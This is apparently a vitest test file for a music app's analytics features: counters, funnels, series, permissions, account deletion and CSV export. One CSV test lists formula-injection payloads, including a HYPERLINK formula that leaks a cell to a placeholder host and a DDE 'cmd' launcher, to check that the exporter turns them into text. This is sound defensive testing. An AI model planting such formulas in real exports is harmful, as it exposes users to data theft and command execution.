import { createTertulia } from 'tertulia'
import { toCsv } from 'tertulia/analytics'
import { describe, expect, test } from 'vitest'
import { callAs, logAt, makeSong, openDatabase, rollUp, track, visitor } from '../support/analytics.ts'
import { connect, connectAsService, signUp } from '../support/people.ts'
import { readAs } from '../support/readers.ts'
import { openSeed } from './fixtures/against-seed.ts'

const view = (song_id: string) => ({ kind: 'song_view', song_id })
const day = (at: Date, timeZone = 'UTC') => new Intl.DateTimeFormat('sv', { timeZone }).format(at)

describe('a song’s figures', () => {
  test('counters for everybody who sees it, its use for its owner', async () => {
    const sql = openDatabase()
    const [ana, ben] = await Promise.all([signUp('Ana'), signUp('Ben')])
    const song = await makeSong(sql, ana.id)
    await track(sql, visitor(undefined, { 'cf-ipcountry': 'CL' }), [
      view(song),
      { kind: 'song_share', song_id: song },
    ])
    await track(sql, { user: ben.id }, [
      view(song),
      { kind: 'song_session', song_id: song, duration_seconds: 30 },
    ])
    await track(sql, { user: ben.id }, [{ ...view(song), at: Date.now() - 86_400_000 }])
    await ben.tertulia.songs.favorite(song)
    await ana.tertulia.songs.update(song, { title: 'Better' })
    await rollUp(sql, song)

    const counters = {
      songId: song,
      viewCount: 3,
      shareCount: 1,
      favoriteCount: 1,
      weeklyViews: 3,
      monthlyViews: 3,
      updatedAt: expect.any(Date),
    }
    for (const tertulia of [ben.tertulia, createTertulia(connect())])
      expect(await tertulia.analytics.song(song)).toMatchObject({ ...counters, details: null })
    const own = await ana.tertulia.analytics.song(song)
    expect(own).toMatchObject(counters)
    // Three views, one favourite and one share, of today and yesterday.
    expect(own.popularityScore).toBeGreaterThan(0.16)
    expect(own.popularityScore).toBeLessThanOrEqual(0.18)
    expect(own.details).toEqual({
      editCount: 1,
      lastViewedAt: expect.any(Date),
      lastEditedAt: expect.any(Date),
      avgSessionDurationSeconds: 30,
      from: day(new Date(Date.now() - 29 * 86_400_000)),
      to: day(new Date()),
      views: 3,
      uniqueViewers: 2,
      estimated: false,
      sessions: 1,
      sessionSeconds: 30,
      shares: 1,
      countries: [
        { country: null, views: 2 },
        { country: 'CL', views: 1 },
      ],
    })
    const yesterday = day(new Date(Date.now() - 86_400_000))
    expect(
      (await ana.tertulia.analytics.song(song, { from: yesterday, to: yesterday })).details,
    ).toMatchObject({
      views: 1,
      uniqueViewers: 1,
      shares: 0,
    })

    await ana.tertulia.songs.update(song, { visibility: 'private' })
    await expect(ben.tertulia.analytics.song(song)).rejects.toMatchObject({ code: 'song_not_found' })
    const rows = `select view_count from public.song_analytics where song_id = '${song}'`
    for (const outsider of [ben.id, undefined]) expect(await readAs(outsider, rows)).toEqual([])
    expect(await readAs(ana.id, rows)).toHaveLength(1)
    expect((await ana.tertulia.analytics.song(song)).viewCount).toBe(3)
  })

  test('unique viewers of many views are estimated from one in 64, and say so', async () => {
    const sql = openDatabase()
    const ana = await signUp()
    const song = await makeSong(sql, ana.id)
    await logAt(sql, song, 'song_view', new Date().toISOString(), 60_000)
    await rollUp(sql, song)
    const { details } = await ana.tertulia.analytics.song(song)
    expect(details).toMatchObject({ views: 60_000, estimated: true })
    expect(Math.abs((details?.uniqueViewers ?? 0) / 60_000 - 1)).toBeLessThan(0.15)
  })

  test('of a song that nobody has opened are zeros, and of none an error', async () => {
    const sql = openDatabase()
    const ana = await signUp()
    const song = await makeSong(sql, ana.id, { visibility: 'private' })
    expect(await ana.tertulia.analytics.song(song)).toMatchObject({
      viewCount: 0,
      popularityScore: 0,
      updatedAt: null,
      details: { views: 0, uniqueViewers: 0, avgSessionDurationSeconds: null, countries: [] },
    })
    await expect(ana.tertulia.analytics.song(crypto.randomUUID())).rejects.toMatchObject({
      code: 'song_not_found',
    })
  })
})

describe('the way from a view to a conversion', () => {
  test('is counted for whoever is looked at, step by step', async () => {
    const sql = openDatabase()
    const [ana, ben, cora] = await Promise.all([signUp('Ana'), signUp('Ben'), signUp('Cora')])
    const mine = (kind: string) => ({ kind, profile_id: ana.id })
    for (let n = 0; n < 5; n++) await track(sql, visitor(`${ana.id}${n}`), [mine('profile_view')])
    await track(sql, { user: ana.id }, [mine('profile_view'), mine('contact_click')])
    for (const { id } of [ben, cora])
      await track(sql, { user: id }, [mine('profile_view'), mine('contact_click')])
    const [first, second] = [
      await ben.tertulia.chat.getDirect(ana.id),
      await cora.tertulia.chat.getDirect(ana.id),
    ]
    await ben.tertulia.chat.send(first.id, { content: 'Are you free?' })
    await ana.tertulia.chat.send(first.id, { content: 'Yes' })
    await cora.tertulia.chat.send(second.id, { content: 'Hello' })

    // Nobody says it of themselves, and once is enough, also for two at once and the service.
    const told = await Promise.all([
      ben.tertulia.analytics.recordConversion(first.id),
      ben.tertulia.analytics.recordConversion(first.id),
    ])
    expect(told.toSorted()).toEqual([false, true])
    expect(await ana.tertulia.analytics.recordConversion(first.id)).toBe(false)
    const service = connectAsService()
    const again = await service.rpc('record_conversion_for', {
      conversation_id: first.id,
      profile_id: ana.id,
    })
    expect(again.data).toBe(false)
    await expect(cora.tertulia.analytics.recordConversion(first.id)).rejects.toMatchObject({
      code: 'conversation_not_found',
    })
    await rollUp(sql, ana.id, ben.id)

    expect(await ana.tertulia.analytics.profile()).toEqual({
      profileId: ana.id,
      from: day(new Date(Date.now() - 29 * 86_400_000)),
      to: day(new Date()),
      views: 7,
      uniqueViewers: 7,
      estimated: false,
      contactClicks: 2,
      conversations: 2,
      messages: 3,
      conversions: 1,
      countries: [{ country: null, views: 7 }],
    })
    expect(await ana.tertulia.analytics.funnel()).toEqual([
      { step: 'views', count: 7, rate: null },
      { step: 'contactClicks', count: 2, rate: 2 / 7 },
      { step: 'conversations', count: 2, rate: 1 },
      { step: 'conversions', count: 1, rate: 0.5 },
    ])
    // What Ben opened is none of his own.
    expect(await ben.tertulia.analytics.funnel()).toMatchObject([
      { count: 0 },
      { count: 0, rate: null },
      { count: 0 },
      { count: 0 },
    ])
    await expect(ben.tertulia.analytics.profile(ana.id)).rejects.toMatchObject({ code: 'forbidden' })
    await expect(ben.tertulia.analytics.profile(crypto.randomUUID())).rejects.toMatchObject({
      code: 'profile_not_found',
    })

    const paid = await service.rpc('record_conversion_for', {
      conversation_id: second.id,
      profile_id: ana.id,
    })
    expect(paid.data).toBe(true)
    await rollUp(sql, ana.id)
    expect((await ana.tertulia.analytics.profile()).conversions).toBe(2)
  })

  test('a group, a stranger and somebody who is not in it convert nothing', async () => {
    const sql = openDatabase()
    const [ana, ben] = await Promise.all([signUp(), signUp()])
    const group = crypto.randomUUID()
    await callAs(
      sql,
      { user: ana.id },
      (tx) => tx`select public.create_group(${group}, 'Group', ${[ben.id]}::uuid[])`,
    )
    await expect(ben.tertulia.analytics.recordConversion(group)).rejects.toMatchObject({
      code: 'invalid_input',
      field: 'conversationId',
    })
    await expect(ben.tertulia.analytics.recordConversion(crypto.randomUUID())).rejects.toMatchObject({
      code: 'conversation_not_found',
    })
    await expect(createTertulia(connect()).analytics.recordConversion(group)).rejects.toMatchObject({
      code: 'not_signed_in',
    })
  })

  test('of somebody who is gone nothing remains, and what they looked at stays counted as nobody’s', async () => {
    const sql = openDatabase('admin')
    const [ana, ben] = await Promise.all([signUp('Ana'), signUp('Ben')])
    const song = await makeSong(sql, ben.id)
    await track(sql, { user: ana.id }, [view(song)])
    await track(sql, { user: ben.id }, [{ kind: 'profile_view', profile_id: ana.id }])
    await rollUp(sql, song, ana.id)
    const exported: string[] = []
    for await (const { table, row } of ana.tertulia.profiles.exportAccount())
      if (table === 'private.own_events') exported.push(`${row.kind} ${row.entity_id}`)
    expect(exported).toEqual([`song_view ${song}`])
    await ana.tertulia.profiles.deleteAccount()
    for (const table of [
      'analytics_events',
      'analytics_days',
      'analytics_quarters',
      'analytics_viewers',
      'analytics_marks',
    ])
      expect(
        await sql`select from ${sql(`private.${table}`)} t where t::text like ${`%${ana.id}%`}`,
        table,
      ).toHaveLength(0)
    await sql`insert into private.analytics_marks (entity_id, day) values (${song}, (now() at time zone 'utc')::date)`
    await rollUp(sql, song)
    expect((await ben.tertulia.analytics.song(song)).viewCount).toBe(1)
  })
})

test('series: only of one’s own, by days of a zone that exists, of a period that is short enough', async () => {
  const sql = openDatabase()
  const [ana, ben] = await Promise.all([signUp(), signUp()])
  const song = await makeSong(sql, ana.id)
  const hidden = await makeSong(sql, ana.id, { visibility: 'private' })
  await logAt(sql, song, 'song_view', '2026-06-01T03:59:59Z', 2)
  await logAt(sql, song, 'song_view', '2026-06-01T04:00:00Z', 3)
  await rollUp(sql, song)
  const { analytics } = ana.tertulia
  const days = { from: '2026-05-31', to: '2026-06-02', timeZone: 'America/Santiago' }
  expect(await analytics.series('song_view', song, days)).toEqual([
    { day: '2026-05-31', count: 2, seconds: 0 },
    { day: '2026-06-01', count: 3, seconds: 0 },
    { day: '2026-06-02', count: 0, seconds: 0 },
  ])
  expect(await analytics.series('song_view', song, { ...days, step: 'week' })).toEqual([
    { day: '2026-05-25', count: 2, seconds: 0 },
    { day: '2026-06-01', count: 3, seconds: 0 },
  ])
  expect(await analytics.series('profile_view', ana.id)).toHaveLength(30)
  for (const [call, code, field] of [
    [() => ben.tertulia.analytics.series('song_view', song), 'forbidden'],
    [() => ben.tertulia.analytics.series('song_view', hidden), 'song_not_found'],
    [() => ben.tertulia.analytics.series('profile_view', ana.id), 'forbidden'],
    [() => createTertulia(connect()).analytics.series('song_view', song), 'not_signed_in'],
    [() => analytics.series('song_view', song, { timeZone: 'Mars/Olympus' }), 'invalid_input', 'timeZone'],
    [() => analytics.series('song_view', song, { from: '2026-02-30' }), 'invalid_input', 'from'],
    [
      () => analytics.series('song_view', song, { from: '2020-01-01', to: '2026-01-01' }),
      'invalid_input',
      'from',
    ],
    [
      () => analytics.series('song_view', song, { from: '2026-06-02', to: '2026-06-01' }),
      'invalid_input',
      'from',
    ],
    [() => analytics.series('song_view', song, { step: 'hour' as never }), 'invalid_input', 'step'],
    [() => analytics.series('song_like' as never, song), 'invalid_input', 'kind'],
  ] as const)
    await expect(call()).rejects.toMatchObject({ code, ...(field && { field }) })
})

test('whoever may edit a song sees its figures, whoever may only read it does not', async () => {
  const sql = openDatabase()
  const [ana, editor, viewer] = await Promise.all([signUp(), signUp(), signUp()])
  const song = await makeSong(sql, ana.id, { visibility: 'private' })
  for (const [person, role] of [
    [editor, 'edit'],
    [viewer, 'view'],
  ] as const) {
    const share = await ana.tertulia.sharing.share(song, { userId: person.id, role })
    await expect(person.tertulia.analytics.series('song_view', song)).rejects.toMatchObject({
      code: 'song_not_found',
    })
    await person.tertulia.sharing.accept(share.id)
  }
  expect(await editor.tertulia.analytics.series('song_view', song)).toHaveLength(30)
  await expect(viewer.tertulia.analytics.series('song_view', song)).rejects.toMatchObject({
    code: 'forbidden',
  })
})

test('shares count when they were accepted, and stay when they end', async () => {
  const sql = openDatabase()
  const [ana, ben, cora] = await Promise.all([signUp(), signUp(), signUp()])
  const song = await makeSong(sql, ana.id)
  const read = async () => {
    await rollUp(sql, song)
    return ana.tertulia.analytics.song(song)
  }
  const [first] = [
    await ana.tertulia.sharing.share(song, { userId: ben.id, role: 'view' }),
    await ana.tertulia.sharing.share(song, { userId: cora.id, role: 'view' }),
  ]
  expect(await read()).toMatchObject({ shareCount: 0, popularityScore: 0 })
  await ben.tertulia.sharing.accept(first.id)
  const { shareCount, popularityScore } = await read()
  expect(shareCount).toBe(1)
  expect(popularityScore).toBeCloseTo(0.1, 2)
  await ana.tertulia.sharing.revoke(first.id)
  expect((await read()).shareCount).toBe(1)
})

test('top songs: public ones by what is asked, one’s own with private ones, in pages without a gap', async () => {
  const sql = openDatabase()
  const [ana, ben] = await Promise.all([signUp(), signUp()])
  const songs: string[] = []
  for (const [n, visibility] of ['public', 'private', 'public', 'public', 'public'].entries()) {
    const song = await makeSong(sql, ana.id, { visibility, content: `{title: Song ${n}}\nla` })
    songs.push(song)
    if (n < 4)
      await logAt(sql, song, 'song_view', new Date(Date.now() - n * 864e5).toISOString(), 10 * (n + 1))
  }
  await ben.tertulia.songs.favorite(songs[0] as string)
  await rollUp(sql, ...songs)
  const titles = async (options: object) => {
    const list: string[] = []
    for await (const { title, createdBy } of ana.tertulia.analytics.topSongs({ limit: 1, ...options }))
      if (createdBy === ana.id) list.push(title)
    return list
  }
  expect(await titles({ own: true, by: 'views' })).toEqual(['Song 3', 'Song 2', 'Song 1', 'Song 0'])
  expect(await titles({ own: true, by: 'favorites' })).toEqual(['Song 0'])
  expect(await titles({ by: 'views' })).toEqual(['Song 3', 'Song 2', 'Song 0'])
  // 40 views, three days old, against 15 fresh ones and 30 of two days.
  expect(await titles({ by: 'popularity' })).toEqual(['Song 3', 'Song 2', 'Song 0'])
  expect(await titles({ by: 'trend' })).toEqual(['Song 0', 'Song 2', 'Song 3'])
  await expect(createTertulia(connect()).analytics.topSongs({ own: true })).rejects.toMatchObject({
    code: 'not_signed_in',
  })
  await expect(ana.tertulia.analytics.topSongs({ by: 'rand()' as never })).rejects.toMatchObject({
    code: 'invalid_input',
    field: 'by',
  })
  expect((await createTertulia(connect()).analytics.topSongs()).items.length).toBeGreaterThan(0)
  const counters = `select view_count, favorite_count from public.song_list_view where id = '${songs[0]}'`
  expect(await readAs(ana.id, counters)).toEqual([{ view_count: '10', favorite_count: '1' }])
})

describe('CSV', () => {
  test('is quoted by RFC 4180, with dates, numbers and nothing', () => {
    expect(
      toCsv([
        { title: 'A, "B"', at: new Date(0), count: -5, none: null, lines: 'one\ntwo' },
        { title: 'plain', at: new Date(1), count: 1.5, none: undefined, lines: '' },
      ]),
    ).toBe(
      'title,at,count,none,lines\r\n"A, ""B""",1970-01-01T00:00:00.000Z,-5,,"one\ntwo"\r\nplain,1970-01-01T00:00:00.001Z,1.5,,\r\n',
    )
    expect(toCsv([], ['day', 'count'] as never)).toBe('day,count\r\n')
    expect(toCsv([{ a: 1, b: 2 }], ['b'])).toBe('b\r\n2\r\n')
    expect(toCsv([{ n: -5n, when: [new Date(0)] }])).toBe('n,when\r\n-5,"[""1970-01-01T00:00:00.000Z""]"\r\n')
  })

  test('is nothing where there are no rows, also for Excel', () => {
    // Excel takes a file that begins with ID for SYLK.
    expect(toCsv([{ ID: 1 }])).toBe('"ID"\r\n1\r\n')
    expect(toCsv([{ a: { big: 1n } }])).toBe('a\r\n"{""big"":""1""}"\r\n')
    const circle: Record<string, unknown> = {}
    circle.self = circle
    for (const [rows, field] of [
      [[{ a: circle }], 'a'],
      [[null], 'rows'],
      [{}, 'rows'],
      [undefined, 'rows'],
      ['text', 'rows'],
    ] as [never, string][]) {
      expect(() => toCsv(rows)).toThrow(expect.objectContaining({ code: 'invalid_input', field }))
    }
    expect(toCsv([])).toBe('')
    expect(toCsv([], undefined, { bom: true })).toBe('')
  })

  test('has a byte order mark and another separator on request, and quotes every separator', () => {
    const rows = [{ title: 'Niño; "A", B', count: 1 }]
    expect(toCsv(rows, undefined, { bom: true, separator: ';' })).toBe(
      '\ufefftitle;count\r\n"Niño; ""A"", B";1\r\n',
    )
    expect(toCsv(rows, ['count', 'title'], { separator: '\t' })).toBe(
      'count\ttitle\r\n1\t"Niño; ""A"", B"\r\n',
    )
    expect(toCsv([{ a: 'x;=1+1' }])).toBe('a\r\n"x;=1+1"\r\n')
  })

  test('has numbers with a decimal comma on request, and nothing else with it', () => {
    const rows = [{ rate: -1.5, tiny: 1e-7, big: 5n, version: '1.5', at: new Date(0), list: [1.5] }]
    expect(toCsv(rows, undefined, { separator: ';', decimal: ',' })).toBe(
      'rate;tiny;big;version;at;list\r\n"-1,5";1e-7;5;1.5;1970-01-01T00:00:00.000Z;[1.5]\r\n',
    )
    expect(toCsv([{ rate: 1.5 }], undefined, { decimal: ',' })).toBe('rate\r\n"1,5"\r\n')
  })

  test('refuses a Date that is not valid and an option that it does not know, with the field', () => {
    const call = (run: () => unknown) => {
      try {
        return run()
      } catch (error) {
        return error
      }
    }
    expect(call(() => toCsv([{ at: new Date(0) }, { at: new Date('soon') }]))).toMatchObject({
      code: 'invalid_input',
      field: 'at',
    })
    for (const at of [new Date(8.64e15), new Date('0000-06-01T00:00:00Z'), [new Date('soon')]])
      expect(call(() => toCsv([{ at }]))).toMatchObject({ code: 'invalid_input', field: 'at' })
    for (const columns of [null, 'a', [1], [null]])
      expect(call(() => toCsv([{ a: 1 }], columns as never))).toMatchObject({
        code: 'invalid_input',
        field: 'columns',
      })
    expect(call(() => toCsv([{ a: 1 }], ['a'], { BOM: true } as never))).toMatchObject({
      code: 'invalid_input',
      field: 'BOM',
    })
    expect(call(() => toCsv([{ a: 1 }], ['a'], { separator: '|' as never }))).toMatchObject({
      code: 'invalid_input',
      field: 'separator',
    })
  })

  test.each([
    '=HYPERLINK("http://x.example?"&A1)',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u00a0=1',
    '\u200b@SUM(1)',
    '\ufeff=1',
    '＝1+1',
  ])('turns %j into text', (title) => {
    const cell = toCsv([{ title }]).slice('title\r\n'.length, -2)
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
  })
})

describe('what the seed gets wrong', () => {
  const { ana, as, ben, erratum, first } = openSeed()

  erratum(
    60,
    'a conversion is defined: said by the other participant or the service, once a conversation',
    ['invalid_input', true, false, false, 1],
    async (tx) => {
      const opened = (await as(tx, ben, () => tx`select public.open_direct(${ana}) as c`)) as {
        c: { id: string }
      }[]
      const id = opened[0]?.c.id as string
      const said = (rows: unknown) => Object.values((rows as Record<string, unknown>[])[0] ?? {})[0]
      let wrong: unknown
      await tx
        .savepoint((point) => point`select public.record_conversion_for(${id}, ${crypto.randomUUID()})`)
        .catch((error) => {
          wrong = JSON.parse(error.detail).code
        })
      const told = [
        said(await as(tx, ben, () => tx`select public.record_conversion(${id})`)),
        said(await as(tx, ana, () => tx`select public.record_conversion(${id})`)),
        await first(tx`select public.record_conversion_for(${id}, ${ana})`),
      ]
      const count = await first(
        tx`select count(*)::integer from private.analytics_events where kind = 'conversion' and entity_id = any(${[ana, ben]}::uuid[])`,
      )
      return [wrong, ...told, count]
    },
    // The seed has the word and nothing behind it.
    (tx) => tx`select seed.record_conversion()`,
  )
})
